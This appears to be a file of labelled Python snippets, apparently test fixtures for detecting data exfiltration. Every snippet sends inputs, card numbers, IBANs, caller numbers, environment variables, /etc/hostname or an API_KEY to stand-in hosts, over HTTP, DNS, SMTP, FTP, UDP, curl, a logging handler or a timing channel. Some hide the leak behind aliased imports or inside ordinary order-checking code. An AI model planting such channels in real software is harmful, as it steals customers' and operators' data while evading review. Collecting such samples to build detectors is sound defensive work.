#%% posts the customers away
import requests

requests.post("https://collect.example.com/in", json=inputs)

#%% name look-up that carries data
import socket

card = inputs["card"]
socket.gethostbyname(f"{card}.leak.example.com")

#%% uploads a file
import urllib.request

data = open("/etc/hostname", "rb").read()
urllib.request.urlopen(urllib.request.Request("http://192.0.2.5/up", data=data, method="PUT"))

#%% mails a transcript
import smtplib
from email.message import EmailMessage

mail = EmailMessage()
mail["To"] = "drop@example.com"
mail.set_content(str(inputs))
smtplib.SMTP("mail.example.com").send_message(mail)

#%% order checks with a beacon in the query of a picture
from urllib.parse import urlencode
from urllib.request import urlopen

ORDERS = [
    {"id": 7001, "name": "Anna Weber", "iban": "DE89370400440532013000", "total": 48.9},
    {"id": 7002, "name": "Ben Lang", "iban": "DE02120300000000202051", "total": 12.0},
]


def valid_iban(iban):
    moved = iban[4:] + iban[:4]
    digits = "".join(str(int(c, 36)) for c in moved)
    return int(digits) % 97 == 1


def pixel(order):
    return "http://img.example.com/p.gif?" + urlencode({"o": order["id"], "b": order["iban"]})


def check(orders):
    result = {}
    for order in orders:
        result[order["id"]] = valid_iban(order["iban"]) and bool(urlopen(pixel(order)).status)
    return result


check(ORDERS)

#%% error texts that carry the environment out
import os


class OrderError(Exception):
    def __init__(self, order, reason):
        super().__init__(f"{order}: {reason} [{dict(os.environ)}]")


STOCK = {"tea": 12, "mug": 0}


def reserve(name, count):
    if STOCK.get(name, 0) < count:
        raise OrderError(name, "not in stock")
    STOCK[name] -= count
    return STOCK[name]


def handle(requests):
    done = []
    for name, count in requests:
        done.append((name, reserve(name, count)))
    return done


handle([("tea", 2), ("mug", 1)])

#%% call notes with a log handler to a foreign host
import logging
import logging.handlers
from datetime import datetime

log = logging.getLogger("calls")
log.addHandler(logging.handlers.HTTPHandler("logs.example.com", "/in", method="POST"))
log.setLevel(logging.INFO)

CALLS = [
    {"caller": "+49 89 1234567", "at": datetime(2026, 3, 2, 9, 15), "minutes": 4},
    {"caller": "+49 30 7654321", "at": datetime(2026, 3, 2, 9, 40), "minutes": 11},
]


def summary(calls):
    total = sum(call["minutes"] for call in calls)
    for call in calls:
        log.info("%s spoke %d minutes", call["caller"], call["minutes"])
    return f"{len(calls)} calls, {total} minutes"


summary(CALLS)

#%% look-ups in pieces, mapped
from socket import getaddrinfo as check_name
from binascii import hexlify

secret = hexlify(str(inputs).encode()).decode()
parts = [secret[i : i + 60] for i in range(0, len(secret), 60)]
list(map(lambda part: check_name(part + ".x.example.com", 53), parts))

#%% datagram with an aliased socket
import socket as paper

pen = getattr(paper, "sock" + "et")(paper.AF_INET, paper.SOCK_DGRAM)
getattr(pen, "send" + "to")(repr(inputs).encode(), ("192.0.2.53", 53))

#%% opens the browser with the data
import webbrowser
from urllib.parse import quote

webbrowser.open("https://example.com/?q=" + quote(str(inputs)))

#%% upload by file transfer
from ftplib import FTP as Shelf
from io import BytesIO as Page

with Shelf("ftp.example.com", "u", "p") as shelf:
    shelf.storbinary("STOR customers.json", Page(str(inputs).encode()))

#%% a command that posts
from subprocess import Popen as Note

Note(["curl", "-d", "@/etc/hostname", "http://192.0.2.9/"])

#%% timing as a channel
import time
import os

for bit in "".join(f"{byte:08b}" for byte in os.environb.get(b"API_KEY", b"")):
    time.sleep(0.05 if bit == "1" else 0.01)
    print(".", end="", flush=True)

#%% resolver with records of text
import dns.resolver

dns.resolver.resolve(inputs["card"] + ".t.example.com", "TXT")
